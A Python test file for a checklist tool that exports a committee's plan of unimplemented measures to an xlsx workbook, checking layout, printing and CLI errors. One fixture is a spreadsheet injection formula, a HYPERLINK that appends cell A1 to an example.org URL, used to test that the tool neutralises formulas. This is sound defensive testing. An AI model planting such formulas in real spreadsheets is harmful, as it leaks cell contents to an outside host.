"""What is not in place as a workbook: the sheet with which a committee plans."""

import io
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest

from checklist.render.gaps.workbook import as_xlsx
from checklist.render.sheets import Column, Sheet, as_workbook
from checklist.reports.check_structure import check_structure
from tests.support import tiny
from tests.support.folders import UGANDA
from tests.support.running import checklist_run

HEAD = ("Recommendations", "Question", "What is missing", "Action", "Lead", "Day", "Status")
FORMULA = '=HYPERLINK("https://example.org/?"&A1)'
LEVELS = [
    {"code": "implemented", "label": "In place"},
    {"code": "planned", "label": FORMULA},
    {"code": "not-implemented", "label": "Not in place"},
]
ASKED = tiny.questionnaire(
    [
        {"id": "plan", "type": "implementation", "recommendations": ["1"]},
        {
            "id": "training",
            "type": "matrix",
            "recommendations": ["12"],
            "options": LEVELS,
            "items": [{"id": row, "label": row.title()} for row in ("police", "judges", "guards")],
        },
    ]
)
ANSWERS = {
    "training": {
        "value": {"police": {"value": "implemented"}, "judges": {"value": "planned"}},
    }
}


def made() -> bytes:
    data = tiny.report(ASKED, ANSWERS).to_data()
    return as_xlsx(check_structure(data, ASKED)[0], data)


def test_each_measure_that_is_missing_has_a_row_with_empty_cells_for_what_is_done() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(made()))["Plan"]
    rows = [*sheet.iter_rows(values_only=True)]

    assert str(rows[0][0]).startswith("What is not in place: ")
    assert "Not for publication" in str(rows[1][0])
    assert rows[3] == HEAD
    numbers = {question.id: ASKED.numbers[question.id] for question in ASKED.questions.values()}
    asked = {
        question.id: f"{numbers[question.id]} {question.ask}"
        for question in ASKED.questions.values()
    }
    empty = (None, None, None, None)
    assert rows[4:] == [
        ("1", asked["plan"], "Not answered", *empty),
        ("12", f"{asked['training']}\nJudges", FORMULA, *empty),
        ("12", f"{asked['training']}\nGuards", "Not answered", *empty),
    ]


def test_no_text_becomes_a_formula_or_a_link() -> None:
    with zipfile.ZipFile(io.BytesIO(made())) as parts:
        sheets = [parts.read(name) for name in parts.namelist() if "worksheets/sheet" in name]

    assert sheets
    assert not [sheet for sheet in sheets if b"<f>" in sheet or b"<hyperlink" in sheet]


def test_the_sheet_can_be_read_and_printed() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(made()))["Plan"]

    assert sheet.freeze_panes == "A5"
    assert sheet.auto_filter.ref == "A4:G7"
    assert sheet.print_title_rows == "$4:$4"
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert (sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.page_setup.fitToHeight) == (True, 0)
    assert all(cell.alignment.wrap_text for row in sheet["A4:G7"] for cell in row)
    assert min(sheet.column_dimensions[name].width for name in "ABCDEFG") > 11
    assert "not for publication" in str(sheet.oddFooter.left.text)
    (chosen,) = sheet.data_validations.dataValidation
    assert (str(chosen.sqref), chosen.showErrorMessage) == ("G5:G7", False)


def test_a_sheet_without_rows_has_its_head() -> None:
    sheet = Sheet(name="Plan", columns=[Column("A", 10), Column("B", 10, ("x",))], rows=[])

    (read,) = openpyxl.load_workbook(io.BytesIO(as_workbook([sheet], "Plan")))

    assert [*read.iter_rows(values_only=True)] == [("A", "B")]
    assert as_workbook([sheet], "Plan") == as_workbook([sheet], "Plan")


@pytest.mark.parametrize(("ending", "begins"), [("xlsx", b"PK"), ("md", b"# "), ("txt", b"What ")])
def test_show_writes_what_is_not_in_place(ending: str, begins: bytes, tmp_path: Path) -> None:
    shutil.copy(UGANDA, tmp_path)

    done = checklist_run("show", "--gaps", "--output", f"plan.{ending}", cwd=tmp_path)

    assert (done.code, done.stdout) == (0, "")
    assert (tmp_path / f"plan.{ending}").read_bytes().startswith(begins)


def test_the_workbook_has_as_many_rows_as_the_text_counts(tmp_path: Path) -> None:
    shutil.copy(UGANDA, tmp_path)
    text = checklist_run("show", "--gaps", cwd=tmp_path).stdout
    checklist_run("show", "--gaps", "--output", "plan.xlsx", cwd=tmp_path)

    counts = dict(line.split(": ", 1) for line in text.splitlines() if ": " in line)
    listed = ("In place in part", "Not in place", "Not said how far")
    plan, other = openpyxl.load_workbook(tmp_path / "plan.xlsx").worksheets
    assert plan.max_row - 4 == sum(int(counts[number]) for number in listed)
    assert other.title == "Answers of another kind"
    assert [cell.value for cell in other[5]] == [*HEAD[:2], "Answer", *HEAD[3:]]
    section = text.partition("\nAnswers of another kind\n")[2].partition("\nNot said how far")[0]
    answers = [str(row[2]) for row in other.iter_rows(min_row=6, values_only=True)]
    shown = " ".join(section.split())
    assert len(answers) > 10
    assert all(line in shown for answer in answers for line in answer.split("\n"))


@pytest.mark.parametrize(
    ("words", "message"),
    [
        (["--output", "x.md"], "--format and --output go with --gaps"),
        (["--gaps", "6.3"], "--gaps shows all that is not in place: leave QUESTION out"),
        (["--gaps", "--output", "plan.html"], "does not say in which format to write"),
        (["--gaps", "--output", UGANDA.name], "UGA"),
    ],
)
def test_what_does_not_go_together_is_refused(
    words: list[str], message: str, tmp_path: Path
) -> None:
    shutil.copy(UGANDA, tmp_path)

    done = checklist_run("show", UGANDA.name, *words, cwd=tmp_path)

    assert (done.code, done.stdout) == (2, "")
    assert message in done.stderr
    assert (tmp_path / UGANDA.name).read_bytes() == UGANDA.read_bytes()


def test_the_workbook_of_a_copy_for_publication_says_that_it_is_one(tmp_path: Path) -> None:
    checklist_run("export", "--public", UGANDA, "--output", "copy.yaml", cwd=tmp_path)

    done = checklist_run("show", "copy.yaml", "--gaps", "--output", "plan.xlsx", cwd=tmp_path)

    assert done.code == 0, done.stderr
    sheet = openpyxl.load_workbook(tmp_path / "plan.xlsx")["Plan"]
    assert "copy for publication" in str(sheet["A3"].value)
    assert tuple(cell.value for cell in sheet[5]) == HEAD
